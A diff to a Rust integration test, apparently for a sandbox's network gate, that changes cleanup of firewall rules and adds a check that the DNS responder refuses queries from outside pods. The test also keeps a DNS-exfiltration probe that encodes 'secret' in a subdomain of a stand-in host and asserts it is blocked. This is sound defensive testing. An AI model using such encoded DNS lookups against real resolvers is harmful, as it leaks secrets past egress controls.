@@ -39,16 +39,13 @@ fn can_run() -> bool {
         .all(|t| Command::new(t).arg("--version").stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok())
 }
 
-/// Kills the upstream and removes the server's host rules when the test ends.
-struct Cleanup(std::process::Child, Option<String>);
+/// Kills the upstream when the test ends (the harness removes the server's host rules).
+struct Cleanup(std::process::Child);
 
 impl Drop for Cleanup {
     fn drop(&mut self) {
         let _ = self.0.kill();
         let _ = self.0.wait();
-        if let Some(t) = &self.1 {
-            let _ = Command::new("nft").args(["delete", "table", "inet", t]).status();
-        }
     }
 }
 
@@ -161,7 +158,7 @@ async fn a_networked_pod_goes_through_the_real_gate_with_its_credential_injected
     std::fs::write(&cert_file, leaf.pem()).unwrap();
     std::fs::write(&key_file, leaf_key.serialize_pem()).unwrap();
     let (child, port) = upstream(&www, &cert_file, &key_file);
-    let mut cleanup = Cleanup(child, None);
+    let _cleanup = Cleanup(child);
 
     let ts = TestServer::start_with(|cfg| {
         cfg.runtime.network = true;
@@ -172,10 +169,6 @@ async fn a_networked_pod_goes_through_the_real_gate_with_its_credential_injected
         }
     })
     .await;
-    cleanup.1 = Some(evershell_runtime::local::network_table(evershell_runtime::local::NetworkPorts {
-        proxy: ts.proxy_addr().port(),
-        dns: ts.dns_addr().port(),
-    }));
 
     let owner = ts.login(&ts.owner_email.clone()).await;
     ts.call(
@@ -247,6 +240,14 @@ async fn a_networked_pod_goes_through_the_real_gate_with_its_credential_injected
     let exfil = "c2VjcmV0.denied.example.test";
     let r = sh(&ts, &ws, &format!("getent ahostsv4 {exfil}")).await;
     assert_ne!(r["exit_code"], 0, "{r}");
+
+    // Outside the pods, the same responder resolves nothing, not even the allowed name.
+    let sock = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
+    let dns_at = std::net::SocketAddr::from(([127, 0, 0, 1], ts.dns_addr().port()));
+    sock.send_to(&evershell_proxy::dns::query(7, "api.example.test", 1), dns_at).await.unwrap();
+    let mut buf = vec![0u8; 2048];
+    let n = tokio::time::timeout(Duration::from_secs(10), sock.recv(&mut buf)).await.expect("no DNS answer").unwrap();
+    assert_eq!(evershell_proxy::dns::parse_response(&buf[..n]), Some((7, 3, vec![])));
 
     // The rows, in the org's audit and the workspace's.
     let dns = rows(&ts, "/v1/audit?filter=event_type=egress_dns_denied&limit=100", 1).await;
